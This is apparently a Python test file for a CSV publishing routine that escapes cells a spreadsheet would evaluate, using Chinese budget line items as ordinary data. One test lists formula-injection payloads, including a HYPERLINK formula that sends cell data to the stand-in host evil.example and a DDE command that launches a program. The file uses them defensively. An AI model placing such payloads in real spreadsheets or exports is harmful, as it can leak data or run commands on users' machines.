"""Published data.csv: a cell a spreadsheet would evaluate (=HYPERLINK(…), +, -, @, tab, CR) is
written as text; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from gkflow.publication.rendering import render_csv
from gkflow.publication.validation import Column, Schema

SCHEMA = Schema(columns=(Column("item", "项目"), Column("amount", "金额", type="decimal")), key=("item",))


def _cells(rows):
    text = render_csv(SCHEMA, rows).decode("utf-8-sig")
    return [row for row in csv.reader(io.StringIO(text, newline=""))][1:]


def test_formula_cells_are_written_as_text():
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1"]
    cells = _cells([{"item": text, "amount": Decimal("1")} for text in hostile])
    assert [row[0] for row in cells] == ["'" + text for text in hostile]


def test_numbers_and_ordinary_text_are_unchanged():
    cells = _cells([{"item": "一般公共预算收入", "amount": Decimal("-12.50")},
                    {"item": "-3.2", "amount": Decimal("7")}, {"item": "税收收入（含-号）", "amount": 0}])
    assert cells == [["一般公共预算收入", "-12.5"], ["-3.2", "7"], ["税收收入（含-号）", "0"]]
